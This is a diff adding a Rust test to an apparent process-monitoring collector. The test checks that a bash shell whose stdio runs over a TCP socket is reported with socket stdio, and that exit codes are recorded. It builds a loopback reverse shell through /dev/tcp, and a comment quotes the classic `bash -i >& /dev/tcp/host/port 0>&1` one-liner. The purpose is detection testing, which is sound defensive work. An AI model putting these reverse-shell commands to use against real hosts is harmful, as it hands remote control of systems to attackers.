@@ -169,3 +169,37 @@ fn a_process_in_a_containerd_style_cgroup_is_attributed_to_its_container_and_pod
         let _ = std::fs::remove_dir(dir);
     }
 }
+
+/// A shell whose stdin and stdout are a TCP socket — how a reverse shell shows — is reported with socket stdio;
+/// exits carry their status.
+#[test]
+fn socket_stdio_and_exit_codes_are_reported() {
+    let (collector, mut events) = Collector::start(&CollectConfig::default(), "test-node").expect("programs load");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let accept = std::thread::spawn(move || {
+        let (mut stream, _) = listener.accept().unwrap();
+        use std::io::Write;
+        stream.write_all(b"sleep 1; exit 0\n").unwrap();
+        let mut sink = Vec::new();
+        use std::io::Read;
+        let _ = stream.read_to_end(&mut sink);
+    });
+    // bash with stdio redirected to the socket, as `bash -i >& /dev/tcp/host/port 0>&1` does.
+    let status = Command::new("bash")
+        .args(["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash --norc -s palisade-revshell <&3 >&3 2>&3")])
+        .status()
+        .unwrap();
+    assert!(status.success());
+    accept.join().unwrap();
+    let shell =
+        wait_for(&mut events, |e| e.kind == NodeEventKind::Exec && e.argv.iter().any(|a| a == "palisade-revshell"))
+            .expect("the shell's exec");
+    assert_eq!(shell.stdio, ["socket", "socket", "socket"], "{:?}", shell.stdio);
+
+    let status = Command::new("/bin/sh").args(["-c", "exit 7"]).status().unwrap();
+    assert_eq!(status.code(), Some(7));
+    let exit = wait_for(&mut events, |e| e.kind == NodeEventKind::Exit && e.exit_code == Some(7)).expect("exit 7");
+    assert!(exit.tgid > 0);
+    collector.stop();
+}
